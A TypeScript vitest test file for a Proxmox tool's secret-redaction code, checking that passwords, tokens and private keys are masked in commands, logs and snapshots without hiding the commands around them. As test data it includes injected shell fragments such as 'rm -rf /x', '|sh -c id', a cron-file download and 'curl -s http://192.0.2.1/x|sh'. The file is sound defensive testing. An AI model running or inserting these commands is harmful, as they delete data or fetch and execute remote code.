/**
 * Secret redaction by meaning and by command-line pattern, table-driven. Every case names the secret text
 * that must disappear and, where it matters, text that must stay (what was asked stays readable).
 * The list of secret parameter names is checked against the official API schema: a name that looks
 * secret and is judged in neither direction fails here.
 */
import { existsSync, readFileSync } from 'node:fs';
import { describe, expect, it, vi } from 'vitest';
import { maskKnown, redactText, secretsIn } from '../lib/policy/redact-text.ts';
import { isSecretName, isSecretOption, maskSecretKeys } from '../lib/policy/secret-params.ts';
import { redactArgs, redactHistoryRow } from '../lib/runtime/redact-args.ts';
import { maskSnapshot, type ClusterSnapshot } from '../lib/self/cluster-snapshot.ts';
import { createLogger, redact } from '../lib/log.ts';
import secretParams from '../lib/policy/secret-params.json' with { type: 'json' };
import { commandCases } from './helpers/secret-cases.ts';
import { shellControls } from '../lib/approval/gate.ts';


/** Everything `run` wrote to stderr (the logger's output), one entry per write. */
function stderrWrites(run: () => void): string[] {
  const written: string[] = [];
  const spy = vi.spyOn(process.stderr, 'write').mockImplementation(((chunk: string) => {
    written.push(String(chunk));
    return true;
  }) as never);
  try {
    run();
  } finally {
    spy.mockRestore();
  }
  return written;
}

/** Text that must come through unchanged (no false alarm on everyday commands). */
const untouched = [
  'qm start 101',
  'pvesm status',
  'pveum acl modify / --tokens "ops@pve!ci" --roles PVEAuditor',
  'qm set 101 --keyboard de --protection 1',
  'ps -u root',
  'find /etc -name "*.conf"',
  'zfs list -o name,used',
  'mysql -p mydb',
  'cat /etc/pve/storage.cfg',
  'qm set 101 --sshkeys /root/.ssh/id_ed25519.pub',
  'pct exec 101 -- bash -c "systemctl restart nginx"',
  'qm guest exec 101 -- sh -c uptime',
];

describe('command-line patterns', () => {
  for (const [line, secret, stays] of commandCases) {
    it(`${line.slice(0, 70)}`, () => {
      const out = redactText(line);
      expect(out).not.toContain(secret);
      expect(out).toContain('[redacted');
      if (stays) expect(out).toContain(stays);
    });
  }
  for (const line of untouched) {
    it(`leaves alone: ${line}`, () => expect(redactText(line)).toBe(line));
  }

  it('the logger applies the same rules to messages and fields, JSON and pretty', () => {
    const written = stderrWrites(() => {
      for (const json of [true, false]) {
        const log = createLogger('debug', { json });
        for (const [line] of commandCases) {
          log.info(`ran ${line}`, { command: line, nested: { args: { password: 'FieldPw', cmd: line } } });
          log.error('failed', { error: `exit 1: ${line}` });
        }
      }
    });
    const text = written.join('');
    expect(written.length).toBeGreaterThan(commandCases.length * 4 - 1);
    for (const [, secret] of commandCases) expect(text).not.toContain(secret);
    expect(text).not.toContain('FieldPw');
  });

  it('the line redactor catches JSON inside JSON, and keeps request ids readable', () => {
    const line = JSON.stringify({ msg: 'call', requestId: '6f1c2b7e-1111-4222-8333-944445555666', args: JSON.stringify({ password: 'EscapedJsonPw' }) });
    const out = redact(line);
    expect(out).toContain('6f1c2b7e-1111-4222-8333-944445555666');
    expect(out).not.toContain('EscapedJsonPw');
  });
});

describe('a mask never hides the commands around a secret (issue 13 red team)', () => {
  // `curl -H X-API-Key:abc;rm -rf /x` was stored as `curl -H X-API-Key:[redacted]`: the rm was gone.
  const S = 'Qz7SecretVal';
  const carriers = [
    `curl -u admin:${S}`,
    `curl -H X-API-Key:${S}`,
    `sshpass -p ${S}`,
    `mysql -p${S}`,
    `mysql --password=${S}`,
    `smbclient //nas/s -U u%${S}`,
    `git clone https://u:${S}@git.example/x`,
    `curl -H Authorization:PVEAPIToken=root@pam!mcp=${S}`,
    `curl -H 'Authorization: PVEAPIToken=root@pam!mcp=${S}'`,
    `pveum user add bob@pve --password ${S}`,
    `tool --db-pass=${S}`,
    `mount -o username=u,password=${S}`,
    `PGPASSWORD=${S}`,
    `tool PVEAPIToken=root@pam!mcp=${S}`,
  ];
  const followers = [';rm -rf /x', '&&rm -rf /x', '|sh -c id', '$(id)', '`id`', '>/etc/x', '\nrm -rf /x', ' http://192.0.2.1/x --output /etc/cron.d/x', '<(id)', '||(id)'];
  for (const carrier of carriers) {
    for (const follower of followers) {
      const line = carrier + follower;
      it(`${JSON.stringify(line).slice(0, 80)}`, () => {
        const out = redactText(line);
        expect(out).not.toContain(S);
        expect(out).toContain('[redacted]');
        expect(out).toContain(follower);
        // exact: every control character, quote, escape and word break is still where it was
        expect(shellControls(out)).toBe(shellControls(line));
        // and again on text that was masked already (logs mask fields, then the whole line)
        expect(redactText(out)).toBe(out);
      });
    }
  }

  it('the logger keeps the commands after a secret too, JSON and pretty', () => {
    const written = stderrWrites(() => {
      for (const json of [true, false]) {
        const log = createLogger('debug', { json });
        for (const carrier of carriers) log.info(`ran ${carrier};rm -rf /x`, { command: `${carrier}|sh -c id` });
      }
    });
    expect(written.length).toBe(carriers.length * 2);
    for (const line of written) {
      expect(line).not.toContain(S);
      expect(line).toContain(';rm -rf /x');
      expect(line).toContain('|sh -c id');
    }
  });

  it('a secret in quotes ends at its closing quote, and may hold control characters', () => {
    for (const [line, secret, follower] of [
      [`curl -u 'u:a;b|c d' http://x | sh`, 'a;b|c d', ' http://x | sh'],
      [`curl -H "X-API-Key: k;e y" http://x;id`, 'k;e y', ' http://x;id'],
      [`sshpass -p 'p w;x' ssh h;id`, 'p w;x', ' ssh h;id'],
      [`mysql --password='p;w' db&&id`, 'p;w', ' db&&id'],
    ] as const) {
      const out = redactText(line);
      expect(out, line).not.toContain(secret);
      expect(out, line).toContain(follower);
    }
    // inside double quotes the shell still runs $( ) and backquotes: those stay visible
    const sub = redactText('curl -H "X-API-Key: abc$(rm -rf /x)" http://x');
    expect(sub).not.toContain('abc');
    expect(sub).toContain('$(rm -rf /x)');
    expect(redactText('curl -u "user:x`id`y" http://x')).toContain('`id`');
  });

  it('a glued quoted part and escapes belong to the secret; an unclosed apostrophe does not swallow the rest', () => {
    const glued = redactText("curl -u u:ab'c d'e http://x;id");
    expect(glued).not.toMatch(/ab|c d/);
    expect(glued).toContain(' http://x;id');
    expect(redactText('curl -u u:a\\;b http://x')).not.toContain(';b');
    const prose = redactText("can't reach it: curl -u admin:Pw9xyz;rm -rf /x");
    expect(prose).not.toContain('Pw9xyz');
    expect(prose).toContain(';rm -rf /x');
  });

  it('a private key block ends with its key lines: an unterminated one no longer takes the commands after it', () => {
    const body = ['MIIEowIBAAKCAQEAx9KeyLineOne0000000000000000000000000000000000000', 'KeyLineTwo1111111111111111111111111111111111111111111111111111111', 'Zm9v=='];
    const pem = `-----BEGIN RSA PRIVATE KEY-----\n${body.join('\n')}\n-----END RSA PRIVATE KEY-----`;
    const encrypted = `-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B2C3D\n\n${body.join('\n')}\n-----END RSA PRIVATE KEY-----`;
    for (const [line, follower] of [
      [`echo '${pem}' > /root/.ssh/id_rsa;rm -rf /x`, "' > /root/.ssh/id_rsa;rm -rf /x"],
      [`${encrypted}\nrm -rf /x`, '\nrm -rf /x'],
      [JSON.stringify({ note: pem, then: 'rm -rf /x' }), '"then":"rm -rf /x"'],
      [`echo -----BEGIN RSA PRIVATE KEY-----;rm -rf /x`, ';rm -rf /x'],
      [`echo -----BEGIN RSA PRIVATE KEY-----\nrm -rf /x`, '\nrm -rf /x'],
      [`-----BEGIN OPENSSH PRIVATE KEY-----\n${body[0]}\n${body[1]}|sh -c id`, '|sh -c id'],
      [`-----BEGIN OPENSSH PRIVATE KEY-----\nPrivKey55\n-----END OPENSSH PRIVATE KEY-----$(id)`, '$(id)'],
    ] as const) {
      const out = redactText(line);
      expect(out, line).toContain('[redacted private key]');
      for (const part of [...body, 'PrivKey55', 'DEK-Info', 'Proc-Type']) expect(out, line).not.toContain(part);
      expect(out, line).toContain(follower);
    }
  });

  it('an option or header left without its value at the end of a line does not take the next line', () => {
    for (const line of ['curl -H X-API-Key:\nrm -rf /x', 'sshpass -p\nrm -rf /x', 'redis-cli -a\nrm -rf /x', 'tool --password\nrm -rf /x', 'pveum user add bob@pve --password\r\nrm -rf /x']) {
      expect(redactText(line), line).toBe(line);
    }
    // a bare scheme word may be masked itself (over-masking one word), never the next line
    expect(redactText('curl -H Authorization: Basic\nrm -rf /x')).toMatch(/\nrm -rf \/x$/);
    // inside quotes the next line is still the value
    expect(redactText('curl -H "X-API-Key:\nQz7Sec" http://x')).not.toContain('Qz7Sec');
  });

  it('a value that is a substitution is not masked: the command inside it stays visible', () => {
    for (const line of ['pveum user add bob@pve --password $(curl -s http://192.0.2.1/x|sh)', 'sshpass -p "$(cat /root/pw)" ssh h', 'tool --api-key `id` x', 'mysql --password=$(id) db']) {
      const out = redactText(line);
      expect(out, line).toBe(line);
    }
  });

  it('a header scheme stays and the credential after it goes, also in free text', () => {
    const out = redactText('upstream said: Authorization: Basic dXNlcjpwYXNzd29yZA== then 401');
    expect(out).not.toContain('dXNlcjpwYXNzd29yZA');
    expect(out).toContain('Basic');
    expect(out).toContain('then 401');
  });
});

describe('parameters by meaning', () => {
  const secret = ['password', 'cipassword', 'confirmation-password', 'encryption-key', 'encryption_key', 'keyring', 'client-key', 'eab-hmac-key', 'secret', 'token', 'lock-token', 'otp', 'totp', 'key', 'value', 'data', 'header', 'otel-headers', 'passphrase', 'Password', 'db_password', 'client_secret', 'api_key', 'private_key', 'vncticket', 'authToken', 'apiKey', 'accessToken', 'clientSecret', 'PVEAuthCookie', 'CSRFPreventionToken'];
  const notSecret = ['tokens', 'tokenid', 'token-coefficient', 'ssh-public-keys', 'sshkeys', 'master-pubkey', 'keyboard', 'keys', 'certificates', 'authid', 'hotplug', 'vmid', 'node', 'userid', 'comment', 'public_key', 'include_secrets', 'tokenId', 'publicKey', 'fullTokenid'];
  for (const name of secret) it(`${name} is a secret`, () => expect(isSecretName(name)).toBe(true));
  for (const name of notSecret) it(`${name} is not`, () => expect(isSecretName(name)).toBe(false));

  it('CLI option prefixes of secret options are secret, short ones and public names are not', () => {
    for (const option of ['passw', 'password', 'cipass', 'encr', 'encryption-k', 'keyr', 'client-k', 'eab-h', 'confirmation-p', 'http-password', 'db-pass', 'api-key']) expect(isSecretOption(option), option).toBe(true);
    // `--tok` is masked: on gotify it is --token (a secret), on pveum acl --tokens (IDs); less shown is safe.
    expect(isSecretOption('tok')).toBe(true);
    expect(redactText('pveum acl modify / --tok "ops@pve!ci" --roles PVEAuditor')).toContain('--roles PVEAuditor');
    expect(isSecretOption('p')).toBe(false);
    expect(isSecretOption('p', true)).toBe(true);
    for (const option of ['tokens', 'keyboard', 'name', 'node', 'storage', 'delete', 'protection', 'sshkeys', 'bypass-cache']) expect(isSecretOption(option), option).toBe(false);
  });

  it('redactArgs masks proxmox_api params by meaning at any depth, and keeps the rest', () => {
    const args = {
      method: 'POST',
      path: '/storage',
      params: { storage: 'pbs1', type: 'pbs', 'encryption-key': '{"key":"K1"}', password: 'P1', keyring: 'KR1', 'client-key': 'CK1', token: 'T1', 'eab-hmac-key': 'H1', tokens: 'ops@pve!ci', nested: [{ secret: 'name=a,value=S1' }] },
    };
    const text = JSON.stringify(redactArgs(args));
    for (const secret of ['K1', 'P1', 'KR1', 'CK1', '"T1"', 'H1', 'S1']) expect(text).not.toContain(secret);
    expect(text).toContain('ops@pve!ci');
    expect(text).toContain('pbs1');
  });

  it('maskSecretKeys keeps flags and empty values readable', () => {
    expect(maskSecretKeys({ include_secrets: true, password: '', token: 'x' })).toEqual({ include_secrets: true, password: '', token: '[redacted]' });
  });
});

describe('the list is judged against the official schema', () => {
  const schemas = ['../shared/pve-api/schema-8.4.json', '../shared/pve-api/schema-9.1.json'].filter((file) => existsSync(file));
  it.skipIf(schemas.length === 0)('every schema parameter that looks secret is in secret or notSecret', () => {
    const names = new Set<string>();
    const walk = (nodes: Array<{ info?: Record<string, { parameters?: { properties?: Record<string, { description?: string }> } }>; children?: unknown[] }>) => {
      for (const node of nodes) {
        for (const info of Object.values(node.info ?? {})) {
          for (const [name, property] of Object.entries(info.parameters?.properties ?? {})) {
            if (/pass|secret|token|key|hmac|otp|cred|ticket|cert|auth/i.test(name) || /password|secret|private key|api key/i.test(property.description ?? '')) names.add(name);
          }
        }
        walk((node.children ?? []) as never);
      }
    };
    for (const file of schemas) {
      const parsed = JSON.parse(readFileSync(file, 'utf8')) as unknown;
      walk((Array.isArray(parsed) ? parsed : (parsed as { children: unknown[] }).children) as never);
    }
    const judged = new Set([...Object.keys(secretParams.secret), ...Object.keys(secretParams.notSecret)]);
    const unjudged = [...names].filter((name) => !judged.has(name) && !/^(ciuser|username|userid|expire|privsep|crypted|decode|encode|filepath|body|full|release-lock|force|case-sensitive|skip-cert-verification|verify-certificates?|otel-resource-attributes|vmid|fingerprint|comment|acme|acmedomain\d*)$/.test(name));
    expect(unjudged).toEqual([]);
    expect(names.size).toBeGreaterThan(20);
  });
});

describe('history rows and the cluster snapshot on their way into a backup', () => {
  it('a row stored before a rule existed is re-redacted', () => {
    const row = { id: 1, tool: 'execute_command', args: JSON.stringify({ node: 'pve1', command: 'curl -u a:OldRowPw https://x' }), message: 'failed: sshpass -p OldMsgPw ssh x' };
    const out = redactHistoryRow(row);
    expect(JSON.stringify(out)).not.toMatch(/OldRowPw|OldMsgPw/);
    expect(JSON.parse(out.args as string).node).toBe('pve1');
  });

  it('the snapshot masks cipassword and every secret-named key, and secrets in text', () => {
    const snapshot: ClusterSnapshot = {
      taken_at: 'now',
      source: 'https://pve:8006/api2/json',
      network: {},
      guests: { '101': { type: 'qemu', node: 'pve1', config: { cipassword: 'CiSnapPw', ciuser: 'admin', description: 'db root password=DescPw', cores: 2 } } },
      storage: [{ storage: 'pbs1', type: 'pbs', 'encryption-key': 'EncSnap', password: 'PbsSnap' }, { storage: 'ceph', keyring: 'KeySnap' }],
      access: { users: [{ userid: 'bob@pve', tokens: [{ tokenid: 'ci' }] }] },
      errors: [{ path: '/x', error: 'curl -u a:ErrSnapPw' }],
      skipped_nodes: [],
    };
    const masked = JSON.stringify(maskSnapshot(snapshot));
    for (const secret of ['CiSnapPw', 'DescPw', 'EncSnap', 'PbsSnap', 'KeySnap', 'ErrSnapPw']) expect(masked).not.toContain(secret);
    for (const kept of ['admin', 'bob@pve', '"tokenid":"ci"', 'pbs1', '"cores":2', 'https://pve:8006/api2/json']) expect(masked).toContain(kept);
  });
});

describe('the exact secret values of a call', () => {
  it('are found in every command-line case and in secret-named keys, and masked wherever they come back', () => {
    for (const [line, secret] of commandCases) {
      const found = secretsIn({ command: line });
      const echoed = `warning: ${line.split(/\s+/).join(' | ')} (${secret})`;
      expect(maskKnown(echoed, found), line).not.toContain(secret);
    }
    const found = secretsIn({ params: { password: 'KeyPw1234', userid: 'bob@pve' } });
    expect(found.has('KeyPw1234')).toBe(true);
    expect(maskKnown({ message: 'refused: KeyPw1234 for bob@pve', list: ['KeyPw1234'] }, found)).toEqual({ message: 'refused: [redacted] for bob@pve', list: ['[redacted]'] });
  });

  it('ignores values too short to be told from ordinary words', () => {
    expect(secretsIn({ password: 'ab' }).size).toBe(0);
    expect(maskKnown('ab cd', secretsIn({ password: 'ab' }))).toBe('ab cd');
  });
});

describe('no input makes redaction take quadratic time', () => {
  // Not a speed target (those live in bench/): before the patterns were bounded, 1 MB of "mysql " took
  // four minutes of CPU in one regular expression; every shape here now takes well under a second.
  const shapes: Record<string, string> = {
    mysql: 'mysql '.repeat(170_000),
    sshpass: 'sshpass '.repeat(120_000),
    htpasswd: 'htpasswd -b '.repeat(80_000),
    env: 'A_PASSWORD'.repeat(100_000),
    dots: 'a.'.repeat(500_000),
    dashword: 'a-'.repeat(500_000),
    colon: 'a:'.repeat(500_000),
    begin: '-----BEGIN RSA PRIVATE KEY-----'.repeat(30_000),
    jsonpw: '{"password":"'.repeat(80_000),
  };
  for (const [name, text] of Object.entries(shapes)) {
    it(`${name} (1 MB)`, () => {
      const started = performance.now();
      redactText(text);
      secretsIn({ text });
      redact(text);
      expect(performance.now() - started).toBeLessThan(15_000);
    }, 60_000);
  }
});
